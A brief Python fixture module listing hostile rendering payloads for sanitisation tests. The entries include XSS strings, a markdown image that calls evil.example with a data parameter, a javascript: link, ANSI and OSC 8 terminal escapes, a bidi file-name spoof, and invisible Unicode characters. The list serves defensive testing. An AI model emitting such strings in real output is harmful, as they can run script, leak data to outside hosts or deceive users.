"""Texts that data, a model or a sandbox may send to do something where they are shown."""

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "markdown image": "![x](http://evil.example/?d=1)",
    "markdown link": "[x](javascript:alert(1))",
    "autolink": "<http://evil.example/>",
    "bare link": "http://evil.example/ www.evil.example a@evil.example",
    "formula": "$x$ and $$y$$ and \\(z\\) and \\[w\\]",
    "bidi": "abc\u202etxt.exe\u2066",
    "ansi": "\x1b[31mred\x1b[0m",
    "osc 8": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "carriage return": "good\rbad",
    "c1": "\x9b31m",
    "tags": "a\U000e0041\U000e0042",
    "zero width": "a\u200b\ufeffb",
    "table": "a | b\n--|--",
    "code": "```\n``` ````",
    "surrogate": "\ud800",
}
